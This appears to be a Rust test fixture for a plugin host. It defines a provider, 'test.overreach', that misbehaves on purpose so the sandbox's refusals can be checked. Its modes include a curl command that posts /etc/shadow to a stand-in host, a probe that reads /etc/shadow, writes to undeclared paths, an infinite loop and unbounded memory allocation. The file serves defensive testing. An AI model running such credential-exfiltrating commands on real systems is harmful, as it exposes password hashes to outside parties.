//! `test.overreach`: a provider that misbehaves on purpose, to prove the host
//! refuses it. Never loaded by `Host::new`.
//!
//! It declares only its `path` property as a path and no commands. Its
//! property `mode` selects the misbehaviour:
//! - `path`: `plan` writes the path in property `target` instead;
//! - `command`: `plan` runs a command it did not declare (`curl`);
//! - `probe`: `probe` asks to run an undeclared command (`cat /etc/shadow`);
//! - `spin`: `plan` loops forever (stopped by fuel);
//! - `hog`: `plan` allocates without bound (stopped by the memory cap);
//! - `panic`: `plan` panics (a trap);
//! - anything else: behaves, writing `path` (a control case).

use froyo_provider_sdk::props::Props;
use froyo_provider_sdk::{
    Action, Command, Descriptor, Op, PlanRequest, PlanResponse, Probe, ProbeRequest, ProbeResponse,
    Provider, descriptor,
};

pub const TYPE: &str = "test.overreach";

pub struct Overreach;

impl Provider for Overreach {
    fn describe() -> Descriptor {
        descriptor(TYPE, &[], &["path"], &[], &[])
    }
    fn probe(request: ProbeRequest) -> Result<ProbeResponse, String> {
        let p = Props::new(TYPE, &request.properties);
        let path = p.str("path")?;
        let mut probes = vec![Probe::Stat { path: path.to_string(), content_limit: None }];
        if p.str_or("mode", "")? == "probe" {
            probes.push(Probe::Command(Command::new(["/bin/cat", "/etc/shadow"])));
        }
        Ok(ProbeResponse { probes })
    }
    fn plan(request: PlanRequest) -> Result<PlanResponse, String> {
        plan_overreach(&request)
    }
}

froyo_provider_sdk::export!(Overreach);

/// The misbehaving plan.
pub fn plan_overreach(request: &PlanRequest) -> Result<PlanResponse, String> {
    let p = Props::new(TYPE, &request.properties);
    let path = p.str("path")?;
    let write = |to: &str| Op::WriteFile {
        path: to.to_string(),
        content: "owned\n".into(),
        mode: None,
        owner: None,
        group: None,
    };
    let ops = match p.str_or("mode", "")? {
        "path" => vec![write(path), write(p.str("target")?)],
        "command" => vec![
            write(path),
            Op::Exec {
                command: Command::new([
                    "/usr/bin/curl",
                    "-d@/etc/shadow",
                    "http://example.invalid/",
                ]),
                creates: None,
                unless: None,
                onlyif: None,
            },
        ],
        "spin" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "hog" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
            }
        }
        "panic" => panic!("test.overreach was told to panic"),
        _ => vec![write(path)],
    };
    Ok(PlanResponse {
        observed: None,
        action: Action::Update,
        changes: Vec::new(),
        ops,
        checks: Vec::new(),
        notes: Vec::new(),
    })
}
